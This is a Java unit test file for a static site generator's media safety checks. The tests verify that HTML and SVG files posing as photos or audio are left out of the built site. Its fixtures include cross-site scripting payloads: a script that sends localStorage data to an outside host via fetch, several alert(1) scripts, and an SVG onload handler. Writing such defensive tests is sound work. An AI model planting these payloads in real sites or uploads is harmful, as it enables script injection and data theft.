package dev.buildcast.generator.openevent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.buildcast.log.LogLevel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 14, item 2: only images, audio and video (and PDF) whose name AND first bytes match an
 * allowed type enter the site; HTML and SVG never do, whatever folder or name they come under.
 */
class OpenEventMediaSafetyTest {

  @TempDir Path temp;

  private static byte[] text(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private JobRun runWith(String speakers, String sessions, ExportZip zip) throws Exception {
    return JobRun.of(temp, zip.json("speakers", speakers).json("sessions", sessions));
  }

  @Test
  void generate_htmlAsAudioAndAsPhoto_isNotCopiedAndLeftOut() throws Exception {
    JobRun run = runWith(
        "[{\"id\": 100, \"name\": \"Ada\", \"photo-url\": \"/images/photo.html\"}]",
        "[{\"id\": 1, \"title\": \"Talk\", \"audio-url\": \"/audio/evil.html\"}]",
        Fixtures.kebab()
            .file("images/photo.html", text("<script>fetch('//x/?'+localStorage.length)</script>"))
            .file("audio/evil.html", text("<script>alert(1)</script>")));

    assertThat(run.exitCode).isZero();
    assertThat(run.site().resolve("images/photo.html")).doesNotExist();
    assertThat(run.site().resolve("audio/evil.html")).doesNotExist();
    assertThat(run.html("sessions/1.html")).doesNotContain("evil.html");
    assertThat(run.html("speakers/100.html")).doesNotContain("photo.html");
    assertThat(run.log.texts(LogLevel.DETAIL)).contains(
        "data problem: speaker 100 photo: image \"/images/photo.html\" is not a PNG, JPEG, GIF, WebP or AVIF image by its name; left out");
  }

  @Test
  void generate_svgImage_isNotCopied() throws Exception {
    JobRun run = runWith("[{\"id\": 100, \"name\": \"Ada\", \"photo-url\": \"/images/ada.svg\"}]", "[]",
        Fixtures.kebab().file("images/ada.svg", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")));

    assertThat(run.site().resolve("images/ada.svg")).doesNotExist();
    assertThat(run.html("speakers/100.html")).doesNotContain("ada.svg");
  }

  @Test
  void generate_htmlNamedAsPng_isNotCopiedBecauseOfItsContent() throws Exception {
    JobRun run = runWith("[{\"id\": 100, \"name\": \"Ada\", \"photo-url\": \"/images/ada.png\"}]",
        "[{\"id\": 1, \"title\": \"Talk\", \"audio-url\": \"/audio/talk.mp3\"}]",
        Fixtures.kebab().file("images/ada.png", text("<html><script>alert(1)</script>"))
            .file("audio/talk.mp3", text("<html><script>alert(1)</script>")));

    assertThat(run.site().resolve("images/ada.png")).doesNotExist();
    assertThat(run.site().resolve("audio/talk.mp3")).doesNotExist();
    assertThat(run.log.texts(LogLevel.DETAIL)).contains(
        "data problem: speaker 100 photo: image \"/images/ada.png\" is not a PNG, JPEG, GIF, WebP or AVIF image by its content; left out");
  }

  @Test
  void generate_realImageAndAudio_areCopied() throws Exception {
    byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 'J', 'F', 'I', 'F'};
    byte[] mp3 = text("ID3\u0004 talk");
    JobRun run = runWith("[{\"id\": 100, \"name\": \"Ada\", \"photo-url\": \"/images/ada.jpg\"}]",
        "[{\"id\": 1, \"title\": \"Talk\", \"audio-url\": \"/audio/talk.mp3\"}]",
        Fixtures.kebab().file("images/ada.jpg", jpeg).file("audio/talk.mp3", mp3));

    assertThat(run.site().resolve("images/ada.jpg")).hasBinaryContent(jpeg);
    assertThat(run.site().resolve("audio/talk.mp3")).hasBinaryContent(mp3);
  }

  @Test
  void mediaTypes_pdfByNameAndContent_isAllowed() throws Exception {
    Path pdf = Files.writeString(temp.resolve("slides.pdf"), "%PDF-1.7 ...");
    Path fake = Files.writeString(temp.resolve("fake.pdf"), "<html>");
    assertThat(MediaTypes.isAllowed(pdf)).isTrue();
    assertThat(MediaTypes.isAllowed(fake)).isFalse();
  }
}
